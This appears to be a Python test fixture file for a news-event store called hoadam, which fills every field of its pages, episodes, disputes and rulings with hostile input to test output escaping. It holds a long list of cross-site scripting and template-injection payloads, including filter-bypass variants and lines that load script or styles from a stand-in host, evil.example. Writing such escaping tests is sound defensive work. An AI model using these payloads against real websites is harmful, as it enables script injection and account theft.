"""Stories whose every word from outside tries to break out of the page."""

from collections.abc import Sequence
from pathlib import Path

import msgspec

from hoadam import desk
from hoadam.model.actor import Actor, Mention
from hoadam.model.base import Span
from hoadam.model.event import Locus, Toll
from hoadam.model.page import Block
from hoadam.model.story import (
    Dispute,
    Episode,
    Figure,
    FigureClaim,
    Line,
    Reading,
    Report,
    Ruling,
    State,
    Story,
    Tolls,
    Track,
)  # fmt: skip
from hoadam.model.time import Cue, Timex, Written
from hoadam.ports import Outcome
from hoadam.store.sqlite import SqliteStore
from samples import DAY, made_event, made_page

HARMLESS = "plain words"
PAYLOADS = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>", "<script\x0c>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "</script><script>alert(1)</script>", "<script>alert(1)//", "<script x>alert(1)</script y>",
    "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<img src=x onerror=alert`1`>", '<IMG SRC="jav\tascript:alert(1)">',
    "<img src=x onerror='&#97;lert(1)'>", "<img srcset=x onerror=alert(1)//", "<image src=x onerror=alert(1)>", "<img\nsrc=x\nonerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href='javascript:alert(1)'><text>x",
    "<svg><animate onbegin=alert(1) attributeName=x>", "<svg><foreignObject><iframe src=javascript:alert(1)>", "</svg><img src=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<math href=javascript:alert(1)>x</math>",
    "<a href=javascript:alert(1)>x</a>", '<a href="java&#x0A;script:alert(1)">x</a>', "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>", "<form action=javascript:alert(1)><button>x</button></form>", "<button formaction=javascript:alert(1)>x",
    "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{background:url(//evil.example)}</style>", "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "--><script>alert(1)</script>", "<!--<script>alert(1)</script>",
    "]]><script>alert(1)</script>", "</option></select><script>alert(1)</script>", "</blockquote></li></ol><script>alert(1)</script>",
    '" onmouseover="alert(1)', "' onmouseover='alert(1)", '" autofocus onfocus=alert(1) x="', '"><script>alert(1)</script>',
    "'><script>alert(1)</script>", "` onmouseover=alert(1)", 'x" style="position:fixed;inset:0', '"></a><script>alert(1)</script>',
    "javascript:alert(1)", " JaVaScRiPt:alert(1)", "\x01javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)",
    'http://x" onclick="alert(1)', "https://x/'><script>alert(1)</script>", '//evil.example/"><script>alert(1)</script>',
    "{{ 7*7 }}{% include 'x' %}", "{{ config }}{{ ''.__class__.__mro__ }}", "${alert(1)}", "#{alert(1)}", "<%= 7*7 %>", "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u202e>tpircs/<)1(trela>tpircs<", "<scr\x00ipt>alert(1)</scr\x00ipt>", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>", "<plaintext>", "<xmp><script>alert(1)</script></xmp>", "<dialog open onclose=alert(1)>",
)  # fmt: skip

_HANDLERS = (
    "onload", "onerror", "onclick", "onmouseover", "onfocus", "onblur", "ontoggle", "onanimationstart", "ontransitionend", "onpointerenter",
    "onwheel", "onscroll", "onbegin", "oncut", "onpaste", "onbeforeinput", "onauxclick", "onhashchange", "onpageshow", "onmessage",
)  # fmt: skip
_ELEMENTS = ("img", "svg", "body", "input", "video", "audio", "iframe", "object", "details", "marquee", "select", "style")
_BREAKS = ('"', "'", '">', "'>", "</a>", "</td></tr></table>", "</svg>", "</h1>", "-->", "]]>")
MORE = (
    *(f"<x {handler}=alert(1) tabindex=1 autofocus>x</x>" for handler in _HANDLERS),
    *(f"<svg><rect {handler}=alert(1) width=9 height=9 /></svg>" for handler in _HANDLERS),
    *(f"<{element} src=x {handler}=alert(1)>" for element in _ELEMENTS for handler in ("onload", "onerror", "onfocus")),
    *(f"{before}<img src=x onerror=alert(1)>" for before in _BREAKS),
    *(f"{before} onmouseover=alert(1) autofocus onfocus=alert(1) {before}" for before in _BREAKS),
    *(
        f"{scheme}alert(1)//{n}"
        for n, scheme in enumerate(("javascript:", "JAVASCRIPT:", "java\nscript:", "\tjavascript:", "jav&#97;script:", "javascript&colon;"))
    ),
    *(f"https://evil.example/{before}<script>alert(1)</script>" for before in _BREAKS),
    *(
        f"<{letter}script>alert(1)</{letter}script>"
        for letter in ("\u200b", "\ufeff", "\u00a0", "\u2028", "\x7f", "\u0130", "\u017f", "%00")
    ),
    *(
        f"<a href='{scheme}'>x</a>"
        for scheme in ("javas\x01cript:alert(1)", "&#x6A;avascript:alert(1)", "data:image/svg+xml,<svg onload=alert(1)>", "blob:x")
    ),
    *(f"{{{{{words}}}}}" for words in ("cycler.__init__.__globals__", "url.__globals__", "range(10**9)|list", "''.join(['<', 'script>'])")),
)
ALL = (*PAYLOADS, *MORE)  # those that pages show; through addresses and forms go the first alone


def reading_of(words: str, number: int) -> Reading:
    """A page of which everything is these words: title, outlet, address, file name, notes, text, names."""
    text = f"{number} {words}\n{words} {words}\n{words}"
    page = msgspec.structs.replace(
        made_page(text, source=f"{words}{number}.txt", outlet=words), title=words, url=words, notes=(words,), lang="vi"
    )
    first, second = Span(0, text.index("\n")), Span(text.index("\n") + 1, len(text))
    who = actor(words)
    event = msgspec.structs.replace(
        made_event(page, number), source=(who, Actor("AZE", "GOV", words, words)), target=(Actor("UKR", "MIL", words),), third=(who,), said_by=words,
        place=Locus(words, None, 40.0, 45.0), killed=(Toll(3, 5, "ARM"),), quotes=(first, second), rule=words, frame=words,
    )  # fmt: skip
    written = Written("2023-05-14", "2023-05-14", "2023-05-14", 0.9, (Cue(words),))
    mentions = (Mention(first.start, first.end, (who,), rule=words), Mention(second.start, second.end, (who,)))
    times = (Timex(second.start, second.end, "DATE", words, rule=words),)
    blocks = (Block(first.start, first.end, "headline", why=words), Block(second.start, second.end, "related", 1))
    return Reading(page, written, blocks, times=times, mentions=mentions, events=(event,), kit="k")


def actor(words: str) -> Actor:
    """Somebody with this name."""
    return Actor("ARM", "GOV", words, words)


def episode_of(reading: Reading, words: str) -> Episode:
    """The episode of the page's event, disputed, with tolls."""
    [event] = reading.events
    report = Report(reading.page.id, event.id, reading.page.source, event.quotes, words, event.date, "actual", words, "2023-05-14")
    claims = (
        FigureClaim(Toll(3, 5, "ARM"), words, "2023-05-14", reading.page.id, event.id),
        FigureClaim(Toll(7, None, "ARM"), actor(words), None, reading.page.id, event.id),
    )
    tolls = Tolls(claims, 3, 4, None, (Figure("ARM", claims, 3, 4, None),))
    return Episode(
        "ep-" + event.id, "ASSAULT", words, "actual", DAY, event.place, event.source, event.target, event.third, "talks", "held", tolls, tolls,
        (report,), 1, ("killed",), None, (("2023-05-14", "actual"),), (words,), words, (words,), weight=1.0,
    )  # fmt: skip


def store_of(path: Path, all_words: Sequence[str]) -> SqliteStore:
    """A store with a page, an episode, a track, a dispute and a ruling for each of the words."""
    store = SqliteStore(path, create=True, write=True)
    readings = [reading_of(words, n) for n, words in enumerate(all_words)]
    store.put([Outcome(f"{words}{n}", one, f"d{n}") for n, (words, one) in enumerate(zip(all_words, readings, strict=True))], "r")
    episodes = tuple(episode_of(one, words) for one, words in zip(readings, all_words, strict=True))
    tracks = tuple(
        Track(
            f"track-{n}",
            "talks",
            words,
            (actor(words), Actor("AZE", "GOV", words)),
            (actor(words),),
            (State("held", DAY, (one.id,), (actor(words),), place=one.place),),
            "held",
            one.place,
            DAY,
            overdue=bool(n % 2),
        )
        for n, (words, one) in enumerate(zip(all_words, episodes, strict=True))
    )
    disputes = tuple(
        Dispute(one.id, "killed", ((f"{words}: 3", (words,)), (f"ARM.GOV: {words}", ("x",))), "ARM", (one.id,))
        for words, one in zip(all_words, episodes, strict=True)
    )
    sections = ("latest", "disputes", "gaps", "background")
    lines = tuple(
        Line(one.id, DAY, words, "disputed", section, "ARM", "killed" if section == "disputes" else None)
        for words, one in zip(all_words, episodes, strict=True)
        for section in sections
    )
    story = Story(episodes, tracks, disputes, lines, tuple(all_words))
    store.keep(Story(), [], store.revision(), "r")
    store.keep(story, desk.entries_of(story, readings, lambda one: one.mode or ""), store.revision(), "r")
    for n, (words, one) in enumerate(zip(all_words, episodes, strict=True)):
        store.rule(Ruling(f"r{n}", "change", (one.id, words), words, f"2024-01-01T00:00:{n % 60:02}Z", "place", words, words))
    return store
